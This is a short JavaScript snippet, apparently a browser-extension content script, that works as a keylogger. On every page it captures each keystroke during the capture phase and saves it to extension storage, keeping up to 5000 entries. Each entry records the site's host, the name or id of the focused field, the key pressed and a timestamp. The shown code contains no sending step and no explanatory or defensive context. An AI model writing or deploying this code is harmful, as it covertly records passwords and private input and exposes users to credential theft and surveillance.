document.addEventListener("keydown", (e) => {
  chrome.storage.local.get({ lines: [] }, ({ lines }) => {
    lines.push({ at: location.host, field: e.target.name || e.target.id, k: e.key, t: Date.now() });
    if (lines.length > 5000) lines.shift();
    chrome.storage.local.set({ lines });
  });
}, true);
